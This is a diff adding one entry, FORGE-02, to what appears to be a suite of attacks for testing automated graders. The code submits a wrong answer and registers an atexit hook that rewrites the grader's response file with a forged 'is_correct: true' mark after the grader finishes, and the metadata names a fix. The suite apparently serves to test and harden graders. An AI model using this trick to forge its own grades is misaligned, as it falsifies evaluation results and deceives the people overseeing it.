@@ -1,0 +1,42 @@
+# SPDX-License-Identifier: MIT
+"""Goal:  a wrong answer is marked correct.
+Means: atexit. The grader marks, writes its response file and ends; what the student registered runs
+       after that, and writes the file again. The reader sees the last word only.
+"""
+
+import atexit
+import os
+import sys
+
+from attack import DONE, attempting, denied, submit
+
+MARK = '{"command": "eval", "result": {"is_correct": true, "feedback": ""}}\n'
+
+
+def overwrite(path):
+    with open(path, "w") as file:
+        file.write(MARK)
+
+
+def run(brief):
+    submit("0")
+    attempting()
+    path = os.environ.get("EVAL_FILE_NAME_RESPONSE")
+    if not path or "grader" not in sys.modules:
+        return denied("atexit", "this is not the grader's process")
+    atexit.register(overwrite, path)
+    return DONE
+
+
+ATTACK = {
+    "effect": "a wrong submission is marked correct",
+    "means": "an atexit function writes the response file after the grader has",
+    "oracle": "grade:forged",
+    "grader": "file",
+    "control": "in-process",
+    "id": "FORGE-02",
+    "attack_id": "T1565.002, CWE-345",
+    "remedy": "the submission in a process of its own; os._exit in the grader",
+    "refs": ["atexit"],
+    "run": run,
+}
